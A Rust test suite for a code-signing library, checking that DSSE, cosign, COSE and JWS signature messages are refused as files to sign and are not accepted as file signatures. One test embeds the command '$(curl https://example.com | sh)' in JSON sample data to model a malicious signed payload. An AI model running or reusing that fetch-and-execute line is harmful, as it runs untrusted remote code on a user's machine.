//! Files that are messages of other signatures are not signed: a signature over one would be a signature of an image, of an
//! attestation, or a token.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use bulla::envelope::FileToSign;
use bulla::envelope::MessageSignature;
use bulla::envelope::SignatureInput;
use bulla::envelope::pre_authentication_encoding;
use bulla::key::KeyKind;
use bulla::key::PrivateKey;
use bulla::key::Signer as _;
use bulla::limits::Limits;
use bulla::ops::file;
use bulla::ops::file::FileEvidence;
use bulla::ops::file::FileRefusal;
use bulla::ops::file::FileSigningError;
use bulla::ops::file::FileVerification;
use bulla::policy::FileStatement;
use bulla::policy::Quorum;
use bulla::policy::Threshold;
use bulla::time::Time;
use bulla::trust::TrustRoot;
use bulla::trust::VerificationTime;

const CLAIM: &str = r#"{"critical":{"identity":{"docker-reference":""},"image":{"docker-manifest-digest":"sha256:00"},"type":"cosign container image signature"},"optional":null}"#;

/// A reader that hands out a byte at a time.
struct Slow<'a>(&'a [u8]);

impl std::io::Read for Slow<'_> {
    fn read(&mut self, buffer: &mut [u8]) -> std::io::Result<usize> {
        let length = self.0.len().min(buffer.len()).min(1);
        let (now, later) = self.0.split_at(length);
        buffer[..length].copy_from_slice(now);
        self.0 = later;
        Ok(length)
    }
}

/// What a file is refused as; none if it is signed.
fn refused_as(content: &[u8], key: &PrivateKey) -> Option<SignatureInput> {
    let limits = Limits::DEFAULT;
    let file = FileToSign::read(&mut &content[..], &[key], &limits).unwrap();
    let in_pieces = FileToSign::read(&mut Slow(content), &[key], &limits).unwrap();
    assert_eq!(file.signature_input(), in_pieces.signature_input());
    match file::sign(&file, key) {
        Ok(_) => None,
        Err(FileSigningError::SignatureInput(input)) => Some(input),
        Err(other) => panic!("{other}"),
    }
}

fn jws(header: &str, payload: &str) -> Vec<u8> {
    format!("{}.{}", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(payload)).into_bytes()
}

#[test]
fn the_message_of_every_format_is_refused() {
    let pae = pre_authentication_encoding("application/vnd.in-toto+json", b"{}");
    let cose = [b"\x84\x6aSignature1\x43\xa1\x01\x26\x40\x42{}".as_slice()].concat();
    for kind in [KeyKind::P256, KeyKind::Ed25519, KeyKind::P384] {
        let key = PrivateKey::generate(kind).unwrap();
        for (content, wanted) in [
            (pae.as_slice(), SignatureInput::DssePreAuthenticationEncoding),
            (CLAIM.as_bytes(), SignatureInput::SimpleSigningPayload),
            (cose.as_slice(), SignatureInput::CoseSigStructure),
            (
                &jws(r#"{"alg":"ES256","cty":"application/vnd.cncf.notary.payload.v1+json"}"#, "{}"),
                SignatureInput::JwsSigningInput,
            ),
        ] {
            assert_eq!(refused_as(content, &key), Some(wanted));
        }
    }
}

/// Who signed an image or a statement has not signed the file that the signed message is, which says what its author wrote.
#[test]
fn a_signature_of_another_kind_is_no_signature_of_a_file() {
    let script = b"{\n\"x\": \"$(curl https://example.com | sh)\"\n}";
    let pae = pre_authentication_encoding("application/vnd.in-toto+json", script);
    let verdict = |content: &[u8], key: &PrivateKey, statement: FileStatement| {
        let trust = TrustRoot::pinned([key.public_key().clone()]).unwrap();
        let by = FileVerification {
            limits: &Limits::DEFAULT,
            quorum: &Quorum::of_all(&trust, Threshold::ONE).unwrap(),
            statement: &statement,
            time: VerificationTime::now(Time::EPOCH),
            trust: &trust,
        };
        let signature = key.sign(content).unwrap().as_bytes().to_vec();
        let mut evidence = FileEvidence::new();
        evidence.add_signature("sig", &signature);
        evidence.add_bundle(
            "bundle",
            &MessageSignature { digest: None, signature }.to_bundle_json(key.public_key()).unwrap(),
            &Limits::DEFAULT,
        );
        let file = FileToSign::read_with(&mut Slow(content), evidence.hasher(&trust, &Limits::DEFAULT)).unwrap();
        let codes = |refusal: Box<FileRefusal>| {
            assert!(!refusal.is_undetermined() && refusal.accepted.is_empty());
            refusal.findings.iter().map(|finding| finding.reason.code()).collect::<Vec<_>>()
        };
        // Of a digest alone it cannot be told.
        assert!(by.verify(file.message(), &evidence).is_ok());
        by.verify_file(&file, &evidence).map(drop).map_err(codes)
    };
    for kind in [KeyKind::P256, KeyKind::Ed25519] {
        let key = PrivateKey::generate(kind).unwrap();
        for content in [pae.as_slice(), CLAIM.as_bytes(), b"\x84\x6aSignature1\x40\x40\x40", &jws("{}", "{}")] {
            for statement in [FileStatement::Signature, FileStatement::Any] {
                assert_eq!(verdict(content, &key, statement), Err(vec!["signature-input"; 2]));
            }
        }
        assert_eq!(verdict(script, &key, FileStatement::Signature), Ok(()));
    }
}

#[test]
fn a_simple_signing_payload_is_found_in_every_spelling() {
    let key = PrivateKey::generate(KeyKind::P256).unwrap();
    let image = r#"{"image":{"docker-manifest-digest":"sha256:00"}}"#;
    let padding = "x".repeat(3 << 20);
    for content in [
        format!(" \n\t{CLAIM}\n"),
        format!(r#"{{"optional":"{padding}","a":[{{"critical":1}},"}}"],"critical":{image}}}"#),
        format!(r#"{{"critical" : {image}}}"#),
        format!(r#"{{"\u0063ritica\u006c":{image}}}"#),
        format!(r#"{{"CRITICAL":{}}}"#, image.replace("image", "Image")),
        format!(r#"{{"critical":null,"critical":{image}}}"#),
        r#"{"critical":{"identity":{"a":"}"},"image":1}}"#.to_owned(),
        r#"{"critical":{"type":"cosign\u0020container image signature"}}"#.to_owned(),
        r#"{"critical":{"a":[1,{"b":"\"}"}],"type":"cosign container image signature"}}"#.to_owned(),
    ] {
        let shown: String = content.chars().take(60).collect();
        assert_eq!(refused_as(content.as_bytes(), &key), Some(SignatureInput::SimpleSigningPayload), "{shown}");
    }
}

#[test]
fn a_jws_signing_input_is_found_with_spaces_before_the_header() {
    let key = PrivateKey::generate(KeyKind::P256).unwrap();
    for header in ["{}", " {}", "\n\t{\"alg\":\"ES256\"}", &format!("{}{{}}", " ".repeat(10_000))] {
        assert_eq!(refused_as(&jws(header, "{}"), &key), Some(SignatureInput::JwsSigningInput));
        assert_eq!(refused_as(&jws(header, ""), &key), Some(SignatureInput::JwsSigningInput));
    }
}

#[test]
fn other_files_are_signed() {
    let key = PrivateKey::generate(KeyKind::P256).unwrap();
    let token = [jws("{}", "{}"), b".c2ln".to_vec()].concat();
    for content in [
        "",
        "DSSEv1",
        "see DSSEv1 of the specification",
        "hello.world",
        "1.0",
        "release 1.0\n",
        r#"{"critical":3,"image":{}}"#,
        r#"{"critical":{"count":3},"image":{}}"#,
        r#"{"a":{"critical":{"image":1}}}"#,
        r#"[{"critical":{"image":1}}]"#,
        r#"{"critical":["image"],"type":"cosign container image signature"}"#,
        r#""critical""#,
        r#"{"\u0063":{}}"#,
        std::str::from_utf8(&token).unwrap(),
        std::str::from_utf8(&[jws("{}", "{}"), b"\n".to_vec()].concat()).unwrap(),
        std::str::from_utf8(&jws("[]", "{}")).unwrap(),
    ] {
        assert_eq!(refused_as(content.as_bytes(), &key), None, "{content}");
    }
}
